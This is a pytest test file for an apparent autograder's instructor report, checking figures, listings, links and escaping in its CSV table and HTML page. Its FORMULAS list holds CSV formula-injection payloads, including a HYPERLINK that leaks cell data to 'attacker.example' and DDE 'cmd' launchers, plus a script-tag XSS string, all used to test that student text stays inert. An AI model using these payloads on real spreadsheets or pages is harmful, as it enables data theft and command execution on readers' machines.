"""The instructor's table and page: figures recomputed from raw rows, no formulas."""

import csv
import io
import re
from collections import Counter
from pathlib import Path
from urllib.parse import unquote

import numpy as np
import pytest
from paper_class import ASSIGNMENT, PaperClass, keep_an_empty_course, source_cells

from autograder.gradebook import records
from autograder.pages import report as report_module
from autograder.steps.feedback import feedback
from autograder.steps.report import inert, report
from autograder.verdicts import Status, Verdict

# What nbgrader's own calls set off under SQLAlchemy 2.1 is not ours to mend.
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")

SOLVED = {"fold-test": (Status.CORRECT, 2.0, ""), "fly-test": (Status.CORRECT, 3.0, "")}


@pytest.fixture
def paper(tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> PaperClass:
    """A course with one assignment and nobody in it."""
    keep_an_empty_course(tmp_path_factory.getbasetemp() / "empty-course")
    return PaperClass(tmp_path / "course")


def read(paper: PaperClass) -> tuple[list[dict[str, str]], str]:
    """Make the report; give the rows of its table, and its page."""
    table, page = report(paper.course, ASSIGNMENT)
    with table.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file)), page.read_text("utf-8")


def text(page: str) -> str:
    """Give what a reader sees of a page."""
    page = re.sub(r"<(head|style|title)>.*?</\1>", "", page, flags=re.DOTALL)
    return " ".join(re.sub(r"<[^>]*>", " ", page).split())


@pytest.mark.slow
def test_report_figures_are_those_of_the_raw_rows(paper):
    """Points, statuses, rates, spread and verdicts agree with what was stored."""
    rng = np.random.default_rng(0)
    statuses = list(Status)
    for k in range(30):
        items = {}
        for name, most in [("fold-test", 2.0), ("fly-test", 3.0)]:
            status = statuses[rng.integers(len(statuses))]
            items[name] = (status, most if status is Status.CORRECT else 0.0, "")
        verdict = Verdict.GRADED if k % 5 else list(Verdict)[k // 5]
        paper.grade(f"student-{k:02}", items, verdict=verdict, cpu_seconds=k / 8)
    rows, page = read(paper)

    runs = {run.student: run for run in records.runs(paper.course, ASSIGNMENT)}
    items = records.items(paper.course, ASSIGNMENT)
    assert [row["student"] for row in rows] == sorted(runs)
    for row in rows:
        own = [item for item in items if item.student == row["student"]]
        assert float(row["points"]) == sum(item.points for item in own)
        assert float(row["max points"]) == 6  # with the answer marked by hand
        assert row["verdict"] == runs[row["student"]].verdict.value
        seconds = runs[row["student"]].cpu_seconds
        assert float(row["cpu seconds"]) == pytest.approx(seconds, abs=0.0051)
        for item in own:
            assert row[f"{item.grade_id} status"] == item.status.value
            assert float(row[f"{item.grade_id} points"]) == item.points

    counted = [row for row in rows if row["verdict"] != "missing"]
    points = [float(row["points"]) for row in counted]
    shown = text(page)
    assert (
        f"{len(counted)} submissions graded; of 6 points the mean is "
        f"{round(np.mean(points), 2):g} and the median {np.median(points):g}." in shown
    )
    for name in ("fold", "fly"):
        found = Counter(row[f"{name}-test status"] for row in counted)
        n = len(counted)
        rate = f"{100 * found['correct'] / n:.0f} %"
        assert f"{name} {found['correct']} of {n} ({rate})" in shown
        told = [f"{s.value}: {found[s.value]}" for s in Status if found[s.value]]
        assert f'aria-label="{", ".join(told)}"' in page
    spread = Counter(points)
    told = ", ".join(f"{k:g}: {spread[k]}" for k in sorted(spread))
    assert f'aria-label="Bar chart of students by points. {told}."' in page
    for verdict, count in Counter(row["verdict"] for row in rows).items():
        assert f"{verdict} {count}" in shown


def test_report_counts_marks_by_hand_and_extra_credit(paper):
    """Points are the gradebook's, not only what the tests gave."""
    paper.grade("ada", SOLVED, marks={"why": 1.0, "fold-test": 0.5})
    rows, _ = read(paper)
    assert rows[0]["points"] == "4.5"
    assert rows[0]["fold-test points"] == "0.5"
    assert rows[0]["fold-test status"] == "correct"


def test_report_of_an_empty_class(paper):
    """An assignment that nobody has handed in has a report that says so."""
    rows, page = read(paper)
    assert rows == []
    assert "Nothing has been graded yet." in text(page)
    assert "Nobody has handed anything in yet." in text(page)


def test_report_of_one_student(paper):
    """A class of one has all the figures."""
    paper.grade("ada", SOLVED)
    rows, page = read(paper)
    assert len(rows) == 1
    assert "1 submission graded; of 6 points the mean is 5 and the median 5." in text(
        page
    )
    assert "fold 1 of 1 (100 %)" in text(page)


def test_report_lists_who_has_not_been_graded_or_has_not_handed_in(paper):
    """New submissions and the rest of the class list are named, and not counted."""
    paper.grade("ada", SOLVED, marks={"why": 1.0})
    (paper.course.submitted / "bob" / ASSIGNMENT).mkdir(parents=True)
    with paper.gradebook() as gradebook:
        gradebook.add_student("eve")
    rows, page = read(paper)
    assert [(row["student"], row["verdict"]) for row in rows] == [
        ("ada", "graded"),
        ("bob", "not graded yet"),
    ]
    assert "1 submission graded" in text(page)
    assert "run `autograder grade` (1) bob" in text(page)
    assert "In the class list, with nothing handed in (1) eve" in text(page)
    assert "marks by hand (" not in text(page)


def test_report_submission_is_graded_when_each_notebook_is(paper):
    """With one notebook of two graded it is not, and the other one is named."""
    paper.grade("ada", SOLVED)
    paper.grade("eve", SOLVED, verdict=Verdict.CRASHED)
    source = paper.course.source / ASSIGNMENT
    paper.save(source / "gliders.ipynb", source_cells())
    rows, page = read(paper)
    assert [row["verdict"] for row in rows] == ["not graded yet", "crashed"]
    assert "run `autograder grade` (2) ada : gliders eve : gliders" in text(page)
    assert "1 submission graded" in text(page)


def test_report_counts_messages_that_differ_in_figures_together(paper):
    """What the class misunderstood is counted by the mistake, not by the numbers."""
    for k in range(5):
        said = f"fold({k}): expected {k + 1}, got {-k * 1.5e-3}; is it doubled?"
        items = {**SOLVED, "fold-test": (Status.INCORRECT, 0.0, said)}
        paper.grade(f"student-{k}", items)
    items = {**SOLVED, "fold-test": (Status.INCORRECT, 0.0, "got an array of text")}
    paper.grade("student-5", items)
    said = "fold: write your answer here"
    items = {**SOLVED, "fold-test": (Status.NOT_ATTEMPTED, 0.0, said)}
    paper.grade("student-6", items)
    shown = text(read(paper)[1])
    assert "5 of 7 fold(0): expected 1, got 0.0; is it doubled?" in shown
    assert "1 of 7 got an array of text" in shown
    assert shown.index("5 of 7 fold") < shown.index("1 of 7 got")
    assert said not in shown


def test_report_says_what_deserves_a_look(paper):
    """Held, stopped, unreadable and repaired submissions are named with the reason."""
    ends = {
        "ann": (Verdict.HELD_FOR_REVIEW, "held for review"),
        "bob": (Verdict.CRASHED, "signal 11 in cell 4"),
        "eve": (Verdict.NOT_READABLE, "line 1 is no JSON"),
    }
    for student, (verdict, message) in ends.items():
        held = verdict is Verdict.HELD_FOR_REVIEW
        evidence = "it patched numpy.testing" if held else ""
        paper.grade(
            student, SOLVED, verdict=verdict, message=message, evidence=evidence
        )
    paper.grade("zoe", SOLVED, repairs=["Cells had been moved."], level="lockdown")
    paper.grade("yan", SOLVED, level="bwrap")
    rows, page = read(paper)
    shown = text(page)
    assert [row["evidence"] for row in rows if row["evidence"]] == [
        "it patched numpy.testing"
    ]
    order = [
        "Held for review: signs of tampering (1) ann : it patched numpy.testing",
        "Crashed (1) bob : signal 11 in cell 4",
        "Not readable: ask for it again (1) eve : line 1 is no JSON",
        "Run at another level of isolation than bwrap (1) zoe : lockdown",
        "Set right or left out before the run (1) zoe : Cells had been",
    ]
    places = [shown.index(line) for line in order]
    assert places == sorted(places)


def test_report_marks_items_whose_test_was_within_reach(paper):
    """A test that ran in the student's process is unprotected; one not run is not."""
    paper.grade("ada", SOLVED, protected={"fold-test"})
    paper.grade("bob", {"fold-test": (Status.NOT_RUN, 0.0, "")})
    rows, page = read(paper)
    assert [row["unprotected"] for row in rows] == ["fly-test", ""]
    assert "fly (unprotected)" in text(page)
    assert "fold (unprotected)" not in text(page)


def test_report_links_to_feedback_pages_that_are_there(paper):
    """A student's name leads to the feedback page, whatever is in the name."""
    for student in ("ada", "o'neil #1 50%?"):
        paper.grade(student, SOLVED, cells=source_cells())
    feedback(paper.course, ASSIGNMENT)
    paper.grade("new", SOLVED)
    _, page = read(paper)
    links = re.findall(r'href="(\.\.[^"]*)"', page)
    assert len(links) == 2
    for link in links:
        assert (paper.course.reports / unquote(link)).is_file()


def test_report_written_again_changes_no_byte(paper):
    """A second report of the same grades leaves both files alone."""
    paper.grade("ada", SOLVED)
    paths = report(paper.course, ASSIGNMENT)
    before = [(path.read_bytes(), path.stat().st_mtime_ns) for path in paths]
    assert report(paper.course, ASSIGNMENT) == paths
    assert before == [(path.read_bytes(), path.stat().st_mtime_ns) for path in paths]


FORMULAS = [
    '=HYPERLINK("https://attacker.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "＝1+1",
    "harmless;=1+1",
    'harmless";=1+1',
    'harmless"\t=1+1',
    "harmless\n=1+1",
    '","=1+1',
    '";"=1+1',
    ";;=1+1;@x",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_report_table_holds_no_formula(paper, formula):
    """No text of a student begins a cell as a formula, whatever parts the cells."""
    student = formula.replace("/", "").replace("\x00", "")
    paper.grade(student, SOLVED, message=formula, repairs=[formula, formula])
    table, _ = report(paper.course, ASSIGNMENT)
    raw = table.read_text("utf-8")
    assert re.search(r"1\+1|1\+cmd|2\+3|HYPERLINK", raw)  # it is there, as text
    assert len(raw.splitlines()) == 2
    for delimiter in ",;\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            if (delimiter, quoting) == (",", csv.QUOTE_NONE):
                continue  # a comma is the separator: programs do read the quotes
            for row in csv.reader(
                io.StringIO(raw), delimiter=delimiter, quoting=quoting
            ):
                for cell in row:
                    assert not re.match(r"[\s\"]*[=+\-@＝＋－＠]", cell), cell


def test_report_inert_leaves_ordinary_text_alone():
    """Messages and names keep their minus signs and quotes."""
    said = 'fold(2, -1): expected -3 (a "crease"), got 1e-3; see e-mail'
    assert inert(said) == said


def test_report_page_escapes_what_students_wrote(paper):
    """A script in a name, a message or a repair is text in the page."""
    script = "<script>alert(1)<|script>"
    paper.grade(
        script,
        {**SOLVED, "fold-test": (Status.INCORRECT, 0.0, script)},
        verdict=Verdict.CRASHED,
        message=script,
        repairs=[script],
        cells=source_cells(),
    )
    feedback(paper.course, ASSIGNMENT)
    _, page = read(paper)
    assert "<script" not in page
    assert page.count("&lt;script&gt;alert(1)") >= 4
    assert "default-src &#39;none&#39;" in page


def test_report_histogram_counts_everybody_once():
    """Whatever the points, the bars add up to the class and are few."""
    rng = np.random.default_rng(1)
    for most in (0.0, 0.5, 1.0, 7.0, 12.0, 100.0):
        points = list(rng.uniform(0, most * 1.1, size=40))  # extra credit goes beyond
        chart = report_module._histogram(points, most)
        assert sum(bar.count for bar in chart.bars) == 40
        assert len(chart.bars) <= report_module.MOST_BARS + 1
        assert max(bar.x + bar.width for bar in chart.bars) <= 640
    assert report_module._histogram([], 5.0) is None
